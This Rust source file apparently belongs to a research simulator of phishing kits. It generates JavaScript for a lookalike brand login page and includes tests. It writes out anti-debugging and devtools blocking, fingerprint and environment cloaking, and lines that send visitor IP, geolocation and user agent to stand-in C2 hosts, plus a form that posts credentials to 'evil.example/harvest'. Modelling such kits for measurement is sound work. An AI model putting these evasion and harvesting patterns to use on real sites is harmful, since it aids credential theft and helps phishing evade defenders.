//! MJS snippets the kits inline into served pages — the client-side
//! implementations of §V-C2, modelled on the behaviours the paper
//! describes finding in captured JavaScript.

use crate::brand::Brand;

/// Console-method hijacking (≥295 messages): redefine the logging
/// functions so they cannot be used normally.
pub fn console_hijack() -> String {
    r#"
console.log = null;
console.warn = null;
console.error = null;
console.info = null;
"#
    .to_string()
}

/// Recurring debugger timer (≥10 messages): measure time across a
/// `debugger` statement every tick; a paused debugger shows as a large
/// delta and the page bails to benign content.
pub fn debugger_timer(c2: &str) -> String {
    format!(
        r#"
var t0 = Date.now();
debugger;
var t1 = Date.now();
if (t1 - t0 > 100) {{
    fetch("{c2}/debug-detected", "1");
    location.href = "/about";
}}
setInterval("tick", 1000);
"#
    )
}

/// Environment gate (≥15 messages): UA + timezone + language association.
pub fn env_gate(expected_tz_prefix: &str) -> String {
    format!(
        r#"
var ua = navigator.userAgent;
var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
var lang = navigator.language;
if (ua.includes("Chrome") == false || tz.startsWith("{expected_tz_prefix}") == false || lang.startsWith("en") == false) {{
    location.href = "/benign";
}}
"#
    )
}

/// Visitor-data exfiltration (145/83 messages): fetch the client IP from a
/// httpbin-style echo, optionally enrich via an ipapi-style service, post
/// to the C2.
pub fn exfil_visitor_data(c2: &str, with_geo: bool) -> String {
    let httpbin = crate::infrastructure::HTTPBIN_HOST;
    let ipapi = crate::infrastructure::IPAPI_HOST;
    let collect = crate::infrastructure::COLLECT_PATH;
    if with_geo {
        format!(
            r#"
var ip = fetch("https://{httpbin}/ip", "");
var geo = fetch("https://{ipapi}/json", ip);
fetch("{c2}{collect}", "ip=" + ip + ";geo=" + geo + ";ua=" + navigator.userAgent);
"#
        )
    } else {
        format!(
            r#"
var ip = fetch("https://{httpbin}/ip", "");
fetch("{c2}{collect}", "ip=" + ip + ";ua=" + navigator.userAgent);
"#
        )
    }
}

/// Victim-database check (151 + 143 messages): extract the recipient email
/// from the tokenized URL, validate it, ask the C2 whether it is a known
/// target; only then reveal the form.
pub fn victim_db_check(c2: &str) -> String {
    let vcheck = crate::infrastructure::VICTIM_CHECK_PATH;
    format!(
        r#"
var q = location.search;
var email = q.slice(q.indexOf("victim=") + 7);
if (isEmailValid(email)) {{
    var known = fetch("{c2}{vcheck}", email);
    if (known == "yes") {{
        document.write("reveal-form");
    }} else {{
        location.href = "/benign";
    }}
}} else {{
    location.href = "/benign";
}}
"#
    )
}

/// Right-click / devtools blocking (39 messages).
pub fn block_devtools() -> String {
    r#"
document.addEventListener("contextmenu", "prevent");
document.addEventListener("keydown", "preventDevtoolsKeys");
"#
    .to_string()
}

/// The base64-wrapped hue-rotate injector (167 pages): decode and apply a
/// 4-degree colour rotation before the document finishes parsing. The
/// attacker ships it encoded; the literal below is
/// `document.write(atob("aHVlLXJvdGF0ZSg0ZGVnKQ=="))`-style staging.
pub fn hue_rotate_inject() -> String {
    // btoa("hue-rotate(4deg)") == "aHVlLXJvdGF0ZSg0ZGVnKQ=="
    r#"
var filter = atob("aHVlLXJvdGF0ZSg0ZGVnKQ==");
console.log("applying " + filter);
"#
    .to_string()
}

/// Fingerprinting-library stanza (BotD + FingerprintJS, the July cluster):
/// collect the surface and send the visitor id to the C2.
pub fn fingerprint_library(c2: &str) -> String {
    format!(
        r#"
var wd = navigator.webdriver;
var ua = navigator.userAgent;
var sw = screen.width;
var sh = screen.height;
fetch("{c2}/fp", "wd=" + wd + ";ua=" + ua + ";s=" + sw + "x" + sh);
if (wd == true || ua.includes("HeadlessChrome")) {{
    location.href = "/benign";
}}
"#
    )
}

/// Turnstile widget beacon: the challenge script phoning the provider —
/// the loaded-resource signal the paper's prevalence counts key on.
pub fn turnstile_beacon() -> String {
    format!(
        "\nfetch(\"https://{}/turnstile/v0/siteverify\", navigator.userAgent);\n",
        crate::infrastructure::TURNSTILE_HOST
    )
}

/// reCAPTCHA v3 background beacon ("run in the background following
/// Turnstile, thereby preventing the need for victims to interact with two
/// CAPTCHA-like solutions consecutively").
pub fn recaptcha_beacon() -> String {
    format!(
        "\nfetch(\"https://{}/recaptcha/api3\", navigator.userAgent);\n",
        crate::infrastructure::RECAPTCHA_HOST
    )
}

/// The credential form's submit beacon: where harvested credentials go.
pub fn harvest_action(c2: &str) -> String {
    format!("{c2}/harvest")
}

/// Assemble the lookalike login page for `brand` with the configured
/// client-side scripts inlined.
pub fn lookalike_login(
    brand: Brand,
    c2: &str,
    scripts: &[String],
    hotlink: bool,
    hue_rotate: bool,
    noise: Option<&str>,
) -> String {
    let (logo, background) = if hotlink {
        (brand.logo_url(), brand.background_url())
    } else {
        (
            "/assets/logo.png".to_string(),
            "/assets/background.jpg".to_string(),
        )
    };
    let body_style = if hue_rotate {
        r#" style="filter: hue-rotate(4deg)""#
    } else {
        ""
    };
    let script_blocks: String = scripts
        .iter()
        .map(|s| format!("<script>{s}</script>\n"))
        .collect();
    let noise_block = noise.map(|n| format!("<p>{n}</p>")).unwrap_or_default();
    brand.page_template(
        &harvest_action(c2),
        &logo,
        Some(&background),
        &script_blocks,
        body_style,
        &noise_block,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_script::{hosts::RecordingHost, run, Script, Value};

    #[test]
    fn all_snippets_parse_as_mjs() {
        for src in [
            console_hijack(),
            debugger_timer("https://c2.example"),
            env_gate("Europe"),
            exfil_visitor_data("https://c2.example", true),
            victim_db_check("https://c2.example"),
            block_devtools(),
            hue_rotate_inject(),
            fingerprint_library("https://c2.example"),
        ] {
            Script::parse(&src).unwrap_or_else(|e| panic!("{e}: {src}"));
        }
    }

    #[test]
    fn victim_check_reveals_only_known_targets() {
        let script = Script::parse(&victim_db_check("https://c2.example")).unwrap();
        let mut host = RecordingHost::new();
        host.set_env(
            "location.search",
            Value::from("?tok=1&victim=alice@corp.example"),
        );
        host.set_response("https://c2.example/check-victim", "yes");
        run(&script, &mut host).unwrap();
        assert_eq!(host.writes(), ["reveal-form"]);

        let mut unknown = RecordingHost::new();
        unknown.set_env(
            "location.search",
            Value::from("?tok=1&victim=bob@corp.example"),
        );
        unknown.set_response("https://c2.example/check-victim", "no");
        run(&script, &mut unknown).unwrap();
        assert!(unknown.writes().is_empty());
        assert_eq!(unknown.navigations(), ["/benign"]);
    }

    #[test]
    fn hue_rotate_payload_is_base64_wrapped() {
        let script = Script::parse(&hue_rotate_inject()).unwrap();
        let mut host = RecordingHost::new();
        run(&script, &mut host).unwrap();
        assert_eq!(host.console_lines(), ["applying hue-rotate(4deg)"]);
    }

    #[test]
    fn exfil_chains_httpbin_then_ipapi_then_c2() {
        let script = Script::parse(&exfil_visitor_data("https://c2.example", true)).unwrap();
        let mut host = RecordingHost::new();
        host.set_response("https://httpbin.example/ip", "100.0.0.7");
        host.set_response("https://ipapi.example/json", "FR;AS1234");
        run(&script, &mut host).unwrap();
        let fetches = host.fetches();
        assert_eq!(fetches.len(), 3);
        assert!(fetches[2].0.starts_with("https://c2.example/collect"));
        assert!(fetches[2].1.contains("100.0.0.7"));
        assert!(fetches[2].1.contains("FR;AS1234"));
    }

    #[test]
    fn lookalike_structure() {
        let html = lookalike_login(
            Brand::Amadora,
            "https://evil.example",
            &[console_hijack()],
            true,
            true,
            Some("random noise text"),
        );
        let doc = cb_web::Document::parse(&html);
        assert!(doc.has_password_field());
        assert_eq!(doc.form_actions(), ["https://evil.example/harvest"]);
        assert!(doc.resource_urls().contains(&Brand::Amadora.logo_url()));
        assert_eq!(doc.inline_scripts().len(), 1);
        assert!(html.contains("hue-rotate(4deg)"));
        assert!(html.contains("random noise text"));
    }

    #[test]
    fn lookalike_without_hotlink_uses_local_assets() {
        let html = lookalike_login(
            Brand::SkyBook,
            "https://evil.example",
            &[],
            false,
            false,
            None,
        );
        let doc = cb_web::Document::parse(&html);
        assert!(doc
            .resource_urls()
            .contains(&"/assets/logo.png".to_string()));
        assert!(!html.contains(Brand::SkyBook.legit_domain()));
    }
}
